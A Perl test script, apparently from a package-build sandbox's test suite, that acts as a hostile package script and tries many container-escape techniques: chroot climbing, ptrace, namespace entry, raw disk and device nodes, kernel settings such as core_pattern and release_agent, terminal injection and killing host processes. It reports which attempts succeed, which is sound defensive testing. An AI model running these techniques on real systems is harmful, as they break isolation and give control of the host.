# A package's script that means harm: each way tries to get at the host, and says whether it did.
#
# No module of Perl is there, only perl itself. What it is told of the host (%HOST) and the numbers of system calls
# and constants of the architecture (%SYS) stand before this text.
our (%HOST, %SYS);
$| = 1;
my $step = shift @ARGV;
my $outside = $HOST{outside};

sub sys {
    my ($name, @arguments) = @_;
    my $number = $SYS{$name};
    return -1 if !defined $number;
    return syscall($number, @arguments);
}

# Each way in a process of its own, so that one that is killed, hangs or changes itself does not end the others.
sub way {
    my ($name, $try) = @_;
    pipe(my $from, my $to) or die "pipe: $!";
    my $child = fork();
    die "fork: $!" if !defined $child;
    if (!$child) {
        close $from;
        alarm 10;
        my $got = eval { $try->() };
        syswrite $to, $got ? "out: $got" : "held";
        close $to;
        kill 9, $$;
    }
    close $to;
    my $said = <$from>;
    waitpid $child, 0;
    $said = 'held' if !defined $said;
    print "door $step $name $said\n";
}

sub slurp {
    my ($path) = @_;
    open my $file, '<', $path or return undef;
    local $/;
    return scalar <$file>;
}

sub spit {
    my ($path, $text) = @_;
    open my $file, '>', $path or return 0;
    return syswrite($file, $text) ? 1 : 0;
}

sub unix_socket {
    my ($name, $kind) = @_;
    socket(my $socket, 1, $kind || 1, 0) or return 0;
    return connect($socket, pack('S a*', 1, $name)) ? 1 : 0;
}

# What of the host can be reached where its root is at this path.
sub reach {
    my ($at) = @_;
    my @found;
    my $text = slurp("$at$outside/secret");
    push @found, "reads the host's files" if defined $text && $text eq $HOST{secret};
    push @found, "writes to the host's files" if spit("$at$outside/marker-$step", 'x');
    push @found, "reaches the host's sockets" if length "$at$outside/socket" < 100 && unix_socket("$at$outside/socket\0");
    push @found, "sees the host's /run" if defined $HOST{run} && -e "$at$HOST{run}";
    my $linked = slurp("$at/etc/apt/apt.conf.d/secret");
    push @found, "reads the host's files where apt's configuration is" if defined $linked && $linked eq $HOST{secret};
    return join ', ', @found;
}

sub processes {
    opendir my $listed, '/proc' or return ();
    my %all = map { $_ => 1 } grep { /^\d+$/ } readdir $listed;
    $all{1} = $all{ $HOST{victim} } = 1;
    delete $all{$$};
    return sort { $a <=> $b } keys %all;
}

# The first process and one of the host's. Without a namespace of processes the first is one of the command's.
sub others { return $HOST{plain} ? $HOST{victim} : (1, $HOST{victim}) }

# The old way out of a root: the working directory stays outside of the new one.
sub climb {
    mkdir '/attack-climb';
    opendir my $kept, '/' or return 0;
    chroot '/attack-climb' or return 0;
    chdir $kept;
    chdir '..' for 1 .. 64;
    chroot '.';
    return 1;
}

my ($MS_RDONLY, $MS_REMOUNT, $MS_BIND, $MS_MOVE, $MS_REC) = (1, 32, 4096, 8192, 16384);
my ($NEWNS, $NEWUSER) = (0x20000, 0x10000000);

sub mounts {
    my ($source, $target, $type, $flags) = @_;
    mkdir $target;
    my $data = '';
    return sys('mount', $source, $target, $type, $flags, $data) == 0;
}

sub node {
    my ($path, $mode, $major, $minor) = @_;
    return sys('mknodat', -100, $path, $mode | 0600, $minor & 0xff | $major << 8 | ($minor & ~0xff) << 12) == 0;
}

sub opens {
    my ($path) = @_;
    sysopen(my $file, $path, 0) or return 0;
    return 1;
}

way 'path', sub { reach('') || reach('/..') || reach('/proc/self/root/..') };
way 'link', sub { symlink "$outside/secret", '/attack-link'; my $text = slurp('/attack-link'); defined $text && 'reads through a link' };
way 'hard-link', sub { link("$outside/secret", '/attack-hard') && 'links a file of the host' };
way 'process-root', sub {
    for my $process (processes()) {
        for my $link ('root', 'cwd/../../../../../../../..') {
            my $found = reach("/proc/$process/$link");
            return "of $process: $found" if $found;
        }
    }
};
way 'process-memory', sub {
    for my $process (others()) {
        sysopen(my $memory, "/proc/$process/mem", 2) and return "of $process";
    }
};
way 'process-environment', sub {
    for my $process (others()) {
        my $text = slurp("/proc/$process/environ");
        return "of $process" if defined $text && length $text;
    }
};
way 'process-program', sub {
    for my $process (others()) {
        return "of $process" if opens("/proc/$process/exe");
    }
};
way 'process-files', sub {
    for my $process (others()) {
        opendir my $listed, "/proc/$process/fd" or next;
        return "of $process" if grep { /^\d/ && defined readlink "/proc/$process/fd/$_" } readdir $listed;
    }
};
way 'victim-seen', sub { -e "/proc/$HOST{victim}/status" && 'sees a process of the host' };
way 'descriptors', sub {
    opendir my $listed, '/proc/self/fd' or return 0;
    for my $number (grep { /^\d+$/ } readdir $listed) {
        my $target = readlink "/proc/self/fd/$number";
        next if !defined $target || $target =~ m{^/proc|^/dev|^pipe:|^/attack};
        return "$number is $target" if $target =~ m{^/} && !-e $target || $target =~ /^\Q$outside\E|debforge-tests/;
        my $found = reach("/proc/self/fd/$number");
        return "$number: $found" if $found;
    }
};
way 'ptrace', sub {
    for my $process (others()) {
        return "attaches to $process" if sys('ptrace', 16, $process + 0, 0, 0) == 0;
        return "seizes $process" if sys('ptrace', 0x4206, $process + 0, 0, 0) == 0;
    }
};
way 'memory-of-others', sub {
    my $buffer = "\0" x 64;
    my $place = unpack 'Q', pack 'p', $buffer;
    my ($local, $remote) = (pack('QQ', $place, 8), pack('QQ', 0x400000, 8));
    for my $process (others()) {
        my $got = sys('process_vm_readv', $process + 0, $local, 1, $remote, 1, 0);
        # EFAULT: the process was there and may be read.
        return "of $process" if $got >= 0 || $! + 0 == 14;
    }
};
way 'open-process', sub {
    my $handle = sys('pidfd_open', $HOST{victim} + 0, 0);
    return 'a handle of a process of the host' if $handle >= 0;
    my $first = $HOST{plain} ? -1 : sys('pidfd_open', 1, 0);
    return 0 if $first < 0;
    for my $number (0 .. 20) {
        return "descriptor $number of process 1" if sys('pidfd_getfd', $first, $number, 0) >= 0;
    }
};
way 'priority', sub { sys('setpriority', 0, $HOST{victim} + 0, 19) == 0 && 'changes the priority of a process of the host' };
way 'limits', sub {
    my $limits = pack 'QQ', 64, 64;
    sys('prlimit64', $HOST{victim} + 0, 7, $limits, 0) == 0 && 'changes the limits of a process of the host';
};
way 'affinity', sub {
    # What it is answered is what it would be answered anywhere: the host looks whether something came of it.
    my $mask = "\1" . "\0" x 7;
    sys('sched_setaffinity', $HOST{victim} + 0, 8, $mask);
    0;
};
way 'real-time', sub {
    my $priority = pack 'i', 1;
    sys('sched_setscheduler', 0, 1, $priority) == 0 && 'runs before all of the host';
};
way 'climb', sub { climb() && reach('') };
way 'climb-and-remount', sub {
    climb() or return 0;
    my ($none, $root, $data) = ('none', '/', '');
    sys('mount', $none, $root, $none, $MS_REMOUNT | $MS_BIND, $data) == 0 or return 0;
    reach('');
};
way 'climb-and-uncover', sub {
    climb() or return 0;
    for my $cover ('/home', '/root', '/var', '/run', '/etc', '/srv', '/tmp', '/var/tmp') {
        my $path = $cover;
        sys('umount2', $path, 2);
    }
    reach('');
};
way 'own-mounts', sub {
    sys('unshare', $NEWNS) == 0 or return 0;
    climb();
    reach('');
};
way 'own-users', sub {
    sys('unshare', $NEWUSER | $NEWNS) == 0 or return 0;
    spit('/proc/self/setgroups', 'deny');
    spit('/proc/self/uid_map', '0 0 1');
    climb();
    my ($none, $root, $data) = ('none', '/', '');
    sys('mount', $none, $root, $none, $MS_REMOUNT | $MS_BIND, $data);
    for my $cover ('/home', '/root', '/var', '/run', '/etc', '/srv', '/tmp', '/var/tmp') {
        my $path = $cover;
        sys('umount2', $path, 2);
    }
    reach('');
};
way 'pivot', sub {
    my ($place, $old) = ('/attack-pivot', '/attack-pivot/old');
    mkdir $place;
    mounts($place, $place, 'none', $MS_BIND | $MS_REC) or return 0;
    mkdir $old;
    sys('pivot_root', $place, $old) == 0 or return 0;
    reach('/old') || reach('/old/..');
};
for my $type ('sysfs', 'devtmpfs', 'debugfs', 'tracefs', 'securityfs', 'configfs', 'efivarfs', 'bpf', 'cgroup', 'pstore', 'binder', 'nfsd') {
    way "mount-$type", sub {
        mounts($type, "/attack-$type", $type, 0) or return 0;
        # What the kernel has there, and not what stands for it.
        my %sign = (sysfs => 'kernel', devtmpfs => 'kmsg');
        my $sign = $sign{$type};
        (!defined $sign || -e "/attack-$type/$sign") && "mounts a $type";
    };
}
way 'mount-cgroup2', sub {
    mounts('cgroup2', '/attack-cgroup2', 'cgroup2', 0) or return 0;
    mkdir '/attack-cgroup2/attack' and rmdir '/attack-cgroup2/attack' and return "makes control groups of the host";
};
way 'mount-proc', sub {
    mounts('proc', '/attack-proc', 'proc', 0) or return 0;
    -e "/attack-proc/$HOST{victim}/status" and return 'sees processes of the host';
    for my $setting ('sysrq-trigger', 'sys/kernel/core_pattern', 'sys/kernel/modprobe', 'sys/vm/swappiness') {
        sysopen(my $file, "/attack-proc/$setting", 1) and return "may write to $setting";
    }
};
way 'mount-disk', sub {
    my ($major, $minor) = split /:/, $HOST{disk} or return 0;
    node('/attack-disk-node', 060000, $major, $minor) or return 0;
    for my $type ('ext4', 'xfs', 'btrfs', 'vfat', 'erofs') {
        mounts('/attack-disk-node', '/attack-disk', $type, $MS_RDONLY) and return "mounts the host's disk";
    }
};
for my $place ('/', '/dev/', '/dev/shm/', '/tmp/', '/var/tmp/') {
    way "disk-in-$place", sub {
        my ($major, $minor) = split /:/, $HOST{disk} or return 0;
        my $path = "${place}attack-disk";
        node($path, 060000, $major, $minor) or return 0;
        opens($path) && "opens the host's disk";
    };
}
for my $device ([mem => 1, 1], [port => 1, 4], [kmsg => 1, 11], [kvm => 10, 232], ['loop-control' => 10, 237], [vsock => 10, 121], [tty1 => 4, 1], [uinput => 10, 223], ['btrfs-control' => 10, 234], [watchdog => 10, 130]) {
    my ($name, $major, $minor) = @$device;
    way "device-$name", sub {
        for my $path ("/attack-$name", "/dev/attack-$name", "/dev/shm/attack-$name", "/tmp/attack-$name") {
            node($path, 020000, $major, $minor) && opens($path) and return "opens $name";
        }
        opens("/dev/$name") && "there is /dev/$name";
    };
}
way 'node-on-a-mount-of-its-own', sub {
    mounts('tmpfs', '/attack-tmpfs', 'tmpfs', 0) or return 0;
    node('/attack-tmpfs/kmsg', 020000, 1, 11) && opens('/attack-tmpfs/kmsg') && 'opens devices of the host';
};
way 'module', sub {
    my ($image, $options) = ("\x7fELF" . "\0" x 60, '');
    for my $call ('init_module', 'delete_module') {
        my $got = $call eq 'init_module' ? sys($call, $image, 64, $options) : sys($call, $options, 2048);
        my $error = $! + 0;
        return "$call is carried out ($error)" if $got == 0 || $error != 1 && $error != 38;
    }
};
way 'kexec', sub { sys('kexec_load', 0, 0, 0, 0) == 0 && 'loads a kernel' };
# What Ctrl-Alt-Del does: as it is by default.
way 'reboot', sub { sys('reboot', 0xfee1dead, 672274793, 0x89abcdef, 0) == 0 && 'governs the machine' };
way 'clock', sub {
    my $now = pack 'qq', time, 0;
    sys('clock_settime', 0, $now) == 0 and return 'sets the clock';
    my $zone = pack 'ii', 0, 0;
    sys('settimeofday', 0, $zone) == 0 && 'sets the time zone';
};
way 'log', sub {
    my $buffer = "\0" x 4096;
    sys('syslog', 3, $buffer, 4096) >= 0 && "reads the kernel's log";
};
for my $setting ('/proc/sysrq-trigger', '/proc/sys/kernel/core_pattern', '/proc/sys/kernel/modprobe', '/proc/sys/kernel/hotplug', '/proc/sys/vm/swappiness', '/proc/sys/fs/binfmt_misc/register', '/proc/sys/kernel/hostname', '/proc/irq/default_smp_affinity', '/sys/kernel/uevent_helper', '/sys/power/state', '/sys/fs/cgroup/cgroup.procs', '/sys/fs/cgroup/release_agent', '/sys/module/kernel/parameters/panic') {
    way "setting-$setting", sub { sysopen(my $file, $setting, 1) && 'may be written to' };
}
for my $secret ('/proc/kcore', '/proc/kallsyms', '/proc/kmsg', '/proc/keys', '/proc/timer_list') {
    way "secret-$secret", sub {
        sysopen(my $file, $secret, 0x800) or return 0;
        my $got = sysread $file, my $text, 64;
        $got && 'can be read';
    };
}
way 'host-name', sub {
    my $name = 'attacked';
    sys('sethostname', $name, 8);
    0;
};
way 'keys', sub {
    my ($type, $name, $value) = ('user', 'debforge-attack', 'x');
    sys('add_key', $type, $name, $value, 1, -4) > 0 and return "adds to the user's keys";
    sys('keyctl', 0, -3, 0) > 0 && 'has a keyring of the session';
};
way 'perf', sub {
    my $about = pack('L L Q', 1, 112, 0) . "\0" x 96;
    sys('perf_event_open', $about, -1, 0, -1, 0) >= 0 && 'watches a processor';
};
way 'bpf', sub {
    my $about = pack('L L L L L', 2, 4, 4, 1, 0) . "\0" x 100;
    sys('bpf', 0, $about, 120) >= 0 && 'makes maps in the kernel';
};
way 'userfaultfd', sub { sys('userfaultfd', 0) >= 0 && "waits in the kernel's faults" };
way 'io-uring', sub {
    my $parameters = "\0" x 120;
    sys('io_uring_setup', 1, $parameters) >= 0 && 'makes calls that nobody sees';
};
way 'namespaces', sub {
    for my $process (processes()) {
        for my $kind ('mnt', 'net', 'pid', 'uts', 'ipc') {
            sysopen(my $namespace, "/proc/$process/ns/$kind", 0) or next;
            sys('setns', fileno($namespace), 0) == 0 or next;
            my $found = reach('');
            return "$kind of $process: $found" if $found;
            return "$kind of $process" if $process == $HOST{victim};
        }
    }
};
way 'file-handle', sub {
    opendir my $root, '/' or return 0;
    for my $inode (2, 64, 128, 256) {
        my $handle = pack('L l L L', 8, 1, $inode, 0) . "\0" x 128;
        my $got = sys('open_by_handle_at', fileno($root), $handle, 0200000);
        return "opens inode $inode of the host's file system" if $got >= 0;
        # ESTALE: it may, and there is no such file.
        return 'may open files of the host by their numbers' if $! + 0 == 116;
    }
};
way 'abstract-socket', sub {
    unix_socket("\0$HOST{abstract}") and return 'connects to a socket of the host';
    socket(my $socket, 1, 2, 0) or return 0;
    send($socket, 'attack', 0, pack('S a*', 1, "\0$HOST{abstract}-datagrams")) && 'sends to a socket of the host';
};
way 'network', sub {
    return 0 if $step =~ /online/;
    socket(my $socket, 2, 1, 6) or return 0;
    connect($socket, pack('S n C4 x8', 2, $HOST{port}, 127, 0, 0, 1)) && "has the host's network";
};
way 'vsock', sub {
    socket(my $socket, 40, 1, 0) or return 0;
    'has a socket to the hypervisor';
};
way 'packets', sub {
    return 0 if $step !~ /online/;
    socket(my $socket, 17, 3, 0x300) && "sees the host's packets";
};
way 'interfaces', sub {
    return 0 if $step !~ /online/;
    socket(my $socket, 2, 2, 0) or return 0;
    # SIOCSIFFLAGS: as they are on lo (up, loopback, running).
    my $request = pack 'a16 s x22', 'lo', 0x49;
    ioctl($socket, 0x8914, $request) && "changes the host's interfaces";
};
way 'terminal', sub {
    my $letter = '#';
    for my $number (0 .. 2) {
        open my $terminal, '<&=', $number or next;
        ioctl($terminal, 0x5412, $letter) and return "types on descriptor $number";
    }
    sysopen(my $terminal, '/dev/tty', 2) or return 0;
    ioctl($terminal, 0x5412, $letter) && 'types on the terminal';
};
way 'environment', sub { join(' ', %ENV) =~ /\Q$HOST{secret}\E/ && "has the caller's environment" };
way 'shared-memory', sub { sys('shmget', $HOST{shm} + 0, 0, 0) >= 0 && "has the host's shared memory" };
way 'queues', sub {
    my $name = $HOST{queue};
    sys('mq_open', $name, 0, 0, 0) >= 0 && "has the host's message queues";
};
way 'shm-files', sub { -e "/dev/shm/$HOST{shmfile}" && "sees the host's /dev/shm" };
way 'own-program', sub {
    spit('/attack-self', "#!/proc/self/exe\n") or return 0;
    chmod 0755, '/attack-self';
    my $said = `/attack-self --version 2>&1`;
    defined $said && $said =~ /debforge/ && "runs debforge's own program";
};
way 'ports', sub { sys('ioperm', 0x80, 1, 1) == 0 && 'has ports of the machine' };
way 'swap', sub {
    my $path = '/attack-swap';
    spit($path, "\0" x 4086 . 'SWAPSPACE2');
    sys('swapon', $path, 0) == 0 && 'swaps';
};
way 'accounting', sub { sys('acct', 0) == 0 && 'ends the accounting of processes' };
way 'set-user-id', sub {
    # Looked at from outside, by who builds.
    spit('/attack-suid', "#!/bin/sh\n");
    chmod 06755, '/attack-suid';
    0;
};
way 'victim', sub { kill(15, $HOST{victim}) && 'ends a process of the host' };
print "door $step done\n";
